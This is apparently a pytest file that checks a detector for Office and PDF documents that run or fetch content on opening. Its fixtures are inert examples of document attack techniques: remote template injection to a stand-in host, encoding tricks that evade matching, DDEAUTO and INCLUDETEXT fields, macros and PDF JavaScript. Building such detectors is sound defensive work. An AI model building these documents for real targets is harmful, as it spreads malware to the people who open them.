"""Files that run or fetch something when they are opened are told from those that do not."""

from collections.abc import Mapping
from io import BytesIO
from zipfile import ZipFile

import pytest

from documents.reading.active_content import acts_when_opened
from tests.documents.making import make_docx, make_pdf
from tests.documents.reading.test_proof import KINDS, old

OUTSIDE = "http://mau.example/t.dotm"
_PACKAGE = "http://schemas.openxmlformats.org/package/2006/relationships"
_TYPES = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def with_parts(parts: Mapping[str, bytes]) -> bytes:
    """A Word file with more parts, or others in place of its own."""
    out = BytesIO()
    with ZipFile(BytesIO(make_docx("BÁO CÁO"))) as whole, ZipFile(out, "w") as changed:
        for name in whole.namelist():
            if name not in parts:
                changed.writestr(name, whole.read(name))
        for name, data in parts.items():
            changed.writestr(name, data)
    return out.getvalue()


def relation(kind: str, attributes: str = "TargetMode='External'") -> bytes:
    return (
        f'<?xml version="1.0"?><Relationships xmlns="{_PACKAGE}"><Relationship Id="r9" Type="{_TYPES}/{kind}"'
        f' Target="{OUTSIDE}" {attributes}/></Relationships>'
    ).encode()


def field(words: str) -> bytes:
    return f"<w:document><w:instrText xml:space='preserve'>{words}</w:instrText></w:document>".encode()


@pytest.mark.parametrize(
    "parts",
    [
        {"word/_rels/settings.xml.rels": relation("attachedTemplate")},
        {"word/_rels/settings.xml.rels": relation("attachedTemplate", 'TargetMode="Ext&#101;rnal"')},
        {"word/_rels/settings.xml.rels": relation("attachedTemplate").decode().encode("utf-16")},
        {"word/_rels/header1.xml.rels": relation("image")},
        {"word/_rels/x.xml.rels": relation("oleObject")},
        {"word/_rels/x.xml.rels": relation("frame")},
        {"xl/externalLinks/externalLink1.xml": b"<externalLink/>"},
        {"xl/connections.xml": b"<connections/>"},
        {"word/vbaProject.bin": b"x"},
        {"word/activeX/activeX1.xml": b"<x/>"},
        {"word/document.xml": field(" DDEAUTO c:\\\\x ")},
        {"word/document.xml": field(' INCLUDETEXT "http://x.example/a"')},
        {"word/footer1.xml": b'<w:fldSimple w:instr="INCLUDEPICTURE &quot;http://x.example&quot;"/>'},
        {"word/document.xml": field(" INCLUDE") + field("TEXT x")},
    ],
)
def test_what_loads_or_runs_something_is_told_of(parts: Mapping[str, bytes]) -> None:
    assert acts_when_opened(with_parts(parts))


@pytest.mark.parametrize("data", [data for data, _ in KINDS], ids=[kind for _, kind in KINDS])
def test_ordinary_files_are_not(data: bytes) -> None:
    assert not acts_when_opened(data)


def test_a_link_to_be_clicked_and_a_field_of_its_own_text_load_nothing() -> None:
    assert not acts_when_opened(with_parts({"word/_rels/document.xml.rels": relation("hyperlink")}))
    assert not acts_when_opened(with_parts({"word/document.xml": field(" PAGE ")}))


def test_macros_of_old_files_and_scripts_of_pdf_are_told_of() -> None:
    assert acts_when_opened(old("WordDocument", "_VBA_PROJECT"))
    assert acts_when_opened(make_pdf("BÁO CÁO") + b"\n<< /S /JavaScript >>")
